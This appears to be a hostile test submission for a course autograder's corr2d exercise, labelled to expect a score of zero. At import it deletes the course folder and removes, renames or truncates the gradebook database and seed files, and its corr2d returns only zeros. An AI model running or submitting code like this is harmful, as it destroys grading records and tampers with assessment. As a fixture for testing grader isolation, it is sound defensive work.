"""Deletes, moves and truncates what lies in the course's folder.

score: 0
"""
# %% corr2d
import os
import shutil

shutil.rmtree(PLACES["course"], ignore_errors=True)
for name in ("gradebook.db", "course_seed"):
    path = PLACES["course"] + "/" + name
    for harm in (os.remove, lambda path: os.rename(path, path + "x"), lambda path: os.truncate(path, 0)):
        try:
            harm(path)
        except OSError:
            pass


def corr2d(X, K):
    return X * 0.0
